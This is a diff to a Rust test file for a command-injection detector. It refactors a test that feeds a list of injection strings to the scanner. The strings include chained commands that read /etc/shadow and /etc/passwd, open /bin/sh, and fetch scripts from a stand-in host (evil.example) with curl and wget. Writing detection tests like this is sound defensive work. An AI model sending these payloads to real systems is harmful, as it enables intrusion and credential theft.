@@ -344,35 +344,33 @@ mod tests {
 
     #[test]
     fn attacks() {
-        for a in [
-            "x;cat /etc/shadow",
-            "127.0.0.1 | whoami",
-            "a && id",
-            "`id`",
-            "$(curl http://evil.example/x.sh)",
-            "1;/bin/sh -i",
-            " | dir c:",
-            " dir c:/",
-            "dir c: |",
-            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
-            "a;ls -la",
-            "cat${IFS}/etc/passwd",
-            "x\nwget http://evil.example/a",
-            "/usr/bin/id",
-            "id;",
-            "id|",
-            ";system('id')",
-            "`ping 127.0.0.1`",
-            "`true`",
-            "'uname'",
-            "ping.exe -n 31 127.0.0.1",
-        ] {
-            assert!(
-                super::super::triggers::scan(a).class(super::super::InjectionClass::Command),
-                "trigger set misses {a:?}"
-            );
-            assert!(detect(a).is_some(), "missed {a:?}");
-        }
+        super::super::assert_caught(
+            super::super::InjectionClass::Command,
+            &[
+                "x;cat /etc/shadow",
+                "127.0.0.1 | whoami",
+                "a && id",
+                "`id`",
+                "$(curl http://evil.example/x.sh)",
+                "1;/bin/sh -i",
+                " | dir c:",
+                " dir c:/",
+                "dir c: |",
+                "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
+                "a;ls -la",
+                "cat${IFS}/etc/passwd",
+                "x\nwget http://evil.example/a",
+                "/usr/bin/id",
+                "id;",
+                "id|",
+                ";system('id')",
+                "`ping 127.0.0.1`",
+                "`true`",
+                "'uname'",
+                "ping.exe -n 31 127.0.0.1",
+            ],
+            |a| detect(a).is_some(),
+        );
     }
 
     #[test]
